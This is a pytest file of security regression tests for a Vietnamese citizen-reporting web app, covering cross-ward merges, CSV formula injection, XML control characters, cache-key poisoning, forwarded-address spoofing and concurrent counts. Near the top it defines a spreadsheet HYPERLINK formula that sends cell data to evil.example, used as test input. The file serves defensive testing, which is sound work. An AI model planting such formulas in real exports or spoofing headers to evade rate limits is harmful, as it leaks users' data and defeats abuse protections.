"""Abuse found on the running instance: cross-ward merges, lost counts, spreadsheet formulas, broken
XML, cache poisoning, and a forwarded address that is not believed."""
import csv
import io
import os
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET

import pytest
import requests

from reports.accounts.api_keys import create_api_key
from reports.models import Report
from reports.workflow.lifecycle import get_by_tracking_code
from settings import PROJECT_ROOT
from store import db
from tests.helpers import KIM_LONG, login, make_report
from webapp.extensions import limiter

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Xem ảnh")'


def test_an_officer_cannot_merge_into_another_wards_report(client, reports, app):
    token = login(client, "other@t.vn")  # Kim Long
    mine, theirs = make_report(app, KIM_LONG), reports["mine"]  # theirs: Phú Xuân
    before = (theirs.support_count, len(theirs.events))
    client.post(f"/desk/reports/{mine.tracking_code}/duplicate",
                data={"csrf_token": token, "original": theirs.tracking_code})
    db.session.refresh(theirs)
    db.session.refresh(mine)
    assert (theirs.support_count, len(theirs.events)) == before
    assert mine.status == "received" and mine.duplicate_of_id is None


def test_the_original_of_a_duplicate_must_be_open(client, reports, app):
    token = login(client, "officer@t.vn")
    original, copy = reports["mine"], make_report(app)
    original.status = "resolved"
    db.session.commit()
    client.post(f"/desk/reports/{copy.tracking_code}/duplicate", data={"csrf_token": token, "original": original.tracking_code})
    assert copy.duplicate_of_id is None


def test_csv_exports_carry_no_formula(client, staff, app):
    report = make_report(app, description=FORMULA)
    login(client, "leader@t.vn")
    body = client.get("/dashboard/export.csv?days=7").get_data(as_text=True)
    rows = {row["Mã theo dõi"]: row for row in csv.DictReader(io.StringIO(body.lstrip("\ufeff")))}
    assert rows[report.tracking_code]["Nội dung"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "@")) for row in rows.values() for cell in row.values())


def test_control_characters_never_break_the_open311_xml(client):
    _, key = create_api_key("xml test")
    db.session.commit()
    created = client.post("/open311/v2/requests.json", data={
        "api_key": key, "service_code": "garbage", "lat": "16.4698", "long": "107.5786",
        "description": "Rác\x0b\x01 ven đường\ttab\r\nxuống dòng", "acknowledge_duplicate": "true"})
    assert created.status_code == 201
    code = created.json[0]["service_request_id"]
    assert get_by_tracking_code(code).description == "Rác ven đường\ttab\nxuống dòng"
    feed = client.get(f"/open311/v2/requests/{code}.xml")
    assert ET.fromstring(feed.data).find("request/description").text == "Rác ven đường\ttab\nxuống dòng"


def test_dashboard_cache_keys_are_the_parsed_filters(client, staff, app):
    from webapp.dashboard.figures_cache import filter_key
    with app.test_request_context("/dashboard?category=garbage%26status%3Dopen"):
        poisoned = filter_key()
    with app.test_request_context("/dashboard?category=garbage&status=open"):
        honest = filter_key()
    assert poisoned != honest and honest == "days=30&category=garbage&status=open"


def test_x_forwarded_for_is_ignored_without_proxy_hops(app, client):
    """PROXY_FIX_HOPS=0 (the default): a client cannot pick its own address to dodge a limit."""
    report = make_report(app)
    default, app.config["SUPPORT_RATE_LIMIT"] = app.config["SUPPORT_RATE_LIMIT"], "2 per minute"
    limiter.reset()
    token = client.get("/api/v1/csrf-token").json["csrf_token"]
    try:
        statuses = [client.post(f"/api/v1/reports/{report.tracking_code}/support",
                                headers={"X-CSRFToken": token, "X-Forwarded-For": f"203.0.113.{i}"}).status_code
                    for i in range(3)]
        assert statuses == [200, 200, 429]
    finally:
        app.config["SUPPORT_RATE_LIMIT"] = default
        limiter.reset()


@pytest.mark.e2e
def test_concurrent_supports_are_all_counted(app, live_server):
    with app.app_context():
        # (committed for real: away from the browser tests' reports, so it is never their duplicate candidate)
        code = make_report(app, ward=KIM_LONG, category="tree", description="Cây đổ (đếm đồng thời)").tracking_code
    session = requests.Session()
    token = session.get(f"{live_server}/api/v1/csrf-token").json()["csrf_token"]
    statuses, barrier = [], threading.Barrier(12)

    def support():
        barrier.wait()
        statuses.append(session.post(f"{live_server}/api/v1/reports/{code}/support",
                                     headers={"X-CSRFToken": token}, timeout=30).status_code)
    threads = [threading.Thread(target=support) for _ in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert statuses == [200] * 12
    with app.app_context():
        db.session.remove()
        assert db.session.query(Report).filter_by(tracking_code=code).one().support_count == 12


def test_limits_are_checked_where_declared_and_can_be_turned_off(app):
    """Only the routes that declare a limit pay for its check; with RATELIMIT_ENABLED off (one machine
    playing many phones in a benchmark) the app still starts and serves."""
    assert limiter._check_request_limit not in app.before_request_funcs.get(None, [])
    # In a process of its own: the limiter is one object per process, shared by every app made in it.
    env = {**os.environ, "RATELIMIT_ENABLED": "0", "PHANANH_ENV": "development",
           "DATABASE_URL": app.config["SQLALCHEMY_DATABASE_URI"].replace("+psycopg2", "")}
    served = subprocess.run([sys.executable, "-c", "from wsgi import app; "
                             "print(app.test_client().get('/api/v1/csrf-token').status_code)"],
                            cwd=PROJECT_ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert served.stdout.strip().endswith("200"), served.stderr[-2000:]
